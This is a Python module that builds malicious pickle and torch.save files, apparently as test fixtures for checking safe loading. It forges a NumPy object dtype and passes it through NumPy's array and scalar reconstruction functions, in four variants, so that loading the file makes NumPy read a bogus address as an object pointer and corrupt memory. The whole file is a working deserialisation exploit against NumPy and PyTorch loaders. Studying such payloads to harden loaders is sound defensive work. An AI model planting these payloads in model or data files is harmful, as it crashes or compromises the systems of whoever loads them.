"""Files that attack who reads them, made with the real names of NumPy and Python."""

from __future__ import annotations

import pickle
import struct
from pathlib import Path
from typing import Any

import numpy as np
import torch

multiarray = np.core.multiarray if np.__version__ < "2" else np._core.multiarray
POINTER = struct.pack("<Q", 0x4141414141414140)  # where there is no memory


class Rebuilt:
    """Is pickled as the call of ``function`` with ``args``, and then as a change by ``state``."""

    def __init__(self, function: Any, args: tuple, state: Any = None):
        self.reduced = (function, args) if state is None else (function, args, state)

    def __reduce__(self) -> tuple:
        return self.reduced


# A data type of objects that does not know that it is one: NumPy then takes bytes for it, as pointers.
OBJECTS = Rebuilt(np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0))
EMPTY_ARRAY = (np.ndarray, (0,), b"b")
ATTACKS = {
    "array": Rebuilt(multiarray._reconstruct, EMPTY_ARRAY, (1, (1,), OBJECTS, False, POINTER)),
    "scalar": Rebuilt(multiarray.scalar, (OBJECTS, POINTER)),
    "field": Rebuilt(
        multiarray._reconstruct,
        EMPTY_ARRAY,
        (
            1, (1,),
            Rebuilt(
                np.dtype, ("V8", False, True),
                (3, "|", None, ("x",), {"x": (Rebuilt(np.dtype, ("O8", False, True)), 0)}, 8, 1, 0),
            ),
            False, POINTER,
        ),
    ),
    "subarray": Rebuilt(
        multiarray._reconstruct,
        EMPTY_ARRAY,
        (
            1, (1,),
            Rebuilt(
                np.dtype, ("V8", False, True),
                (3, "|", (Rebuilt(np.dtype, ("O8", False, True)), (1,)), None, None, 8, 1, 0),
            ),
            False, POINTER,
        ),
    ),
}  # fmt: skip
HOW = ("zip", "legacy", "pickle 2", "pickle 4")


def write(content: Any, path: Path, how: str) -> Path:
    """Write ``content`` as ``torch.save`` does in either format, or as ``pickle`` does by some protocol."""
    if how.startswith("pickle"):
        path.write_bytes(pickle.dumps(content, int(how[-1])))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=how == "zip")
    return path
